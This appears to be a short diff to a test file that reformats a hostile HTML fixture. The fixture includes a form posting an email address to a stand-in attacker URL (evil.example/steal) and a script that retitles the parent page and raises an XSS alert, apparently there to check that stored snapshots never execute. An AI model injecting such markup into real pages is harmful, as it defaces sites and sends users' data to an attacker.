@@ -25,7 +25,8 @@ EMAIL = "giulia.bianchi@example.it"
 PHONE = "+393471234567"
 # A snapshot that would deface the console, call home and pop a dialog if it ever ran.
 HOSTILE_SNAPSHOT = (
-    '<form action="https://evil.example/steal"><input name="email" value="giulia.bianchi@example.it">'
+    '<form action="https://evil.example/steal">'
+    '<input name="email" value="giulia.bianchi@example.it">'
     '<input type="checkbox" checked> Newsletter</form>'
     "<script>document.title='PWNED';parent.document.title='PWNED';"
     "parent.document.body.dataset.pwned='1';alert('xss')</script>"
